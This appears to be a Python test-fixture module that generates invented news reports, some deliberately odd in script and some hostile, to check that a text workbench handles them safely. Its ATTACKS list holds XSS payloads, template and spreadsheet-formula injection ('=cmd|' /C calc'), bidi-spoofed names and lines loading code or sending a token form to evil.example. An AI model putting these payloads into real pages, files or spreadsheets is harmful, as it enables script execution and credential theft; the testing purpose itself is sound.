"""Invented reports: ordinary ones, ones in odd letters, and ones that mean harm."""

from __future__ import annotations

_FRONT = """The Front in the hills

VELM, March 3 -- The Karsk Front has 300 fighters in Velm, General Mira Sol said on Monday.

"We will answer every attack on our villages," said Orlo Venn, a spokesman for the Karsk Front. \
"Nobody in Velm has asked for these camps."

The governor of Durno, Tamas Rell, denied that the Front had taken the bridge.

General Sol warned that the winter road would be closed before the first snow.
"""
_COUNT = """Another count

DURNO, March 4 -- The Karsk Front has 900 fighters in Velm, the analyst Ilka Brand said on Tuesday.

Tamas Rell said that the bridge was open. "Our engineers looked at it twice," he said.

Brand added that most of the fighters came from Ordesh.
"""
_ODD_LETTERS = """Signs 🏔️ on the pass

USTREL, March 5 -- 👩‍👩‍👧‍👦 Families 🚶🏽‍♀️ crossed the pass, Mira Sol said. 🎉

"The cafe\u0301 at the pass 🫖 is open 🇺🇳 again," said Ilka Brand, who runs it.

The sign reads مرحبا بكم في الوادي, and Tamas Rell said that the words "שלום לכל הבאים" were \
added 😀 later.

"𝒱elm is n\u0303ot lost 🕊️," said Orlo Venn, a spokesman for the Karsk Front.
"""

PLAIN = {"front.txt": _FRONT, "count.txt": _COUNT, "letters.txt": _ODD_LETTERS}

ATTACKS = (
    "<script>window.harmed=1</script>",
    "<img src=x onerror=window.harmed=1>",
    "</p></div></main><script src=//evil.example/x.js></script>",
    "<svg onload=window.harmed=1>",
    "<a href=javascript:window.harmed=1>here</a>",
    "javascript:window.harmed=1",
    "{{7*191}} ${7*191} {%raw%} #{7*191}",
    '"><iframe src=//evil.example></iframe>',
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=prefetch href=//evil.example/p>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example><input name=token>",
    "&lt;script&gt;window.harmed=1&lt;/script&gt;",
    "' onmouseover=window.harmed=1 x='",
    "=cmd|' /C calc'!A0",
    "\u202egnp.exe\u202c \u2066hidden\u2069",
    "Z\u0351\u036b\u0343a\u0363l\u0349go",
    "\ufeff\u200bnothing\u00ad",
    "\x00\x01\x1b[31mred\x7f\x85",
    "\ufdd0\ufffe\uffff",
)
"""What a hostile page may hold, each without an effect if the workbench is sound."""


def _hostile(number: int, attack: str) -> str:
    inside = attack.replace('"', "'")
    return (
        f"{attack}\noutlet: {attack}\ndate: 2031-03-{number % 28 + 1:02}\n"
        f'"We say {inside} and 300 fighters attacked Velm," said the spokesman Orlo Venn. '
        f'"They {inside} attacked Durno," said Mira Sol.\n{attack}\r\n'
    )


HOSTILE = {
    f"hostile/{number:02}-<b>x<!--.txt": _hostile(number, attack)
    for number, attack in enumerate(ATTACKS)
}
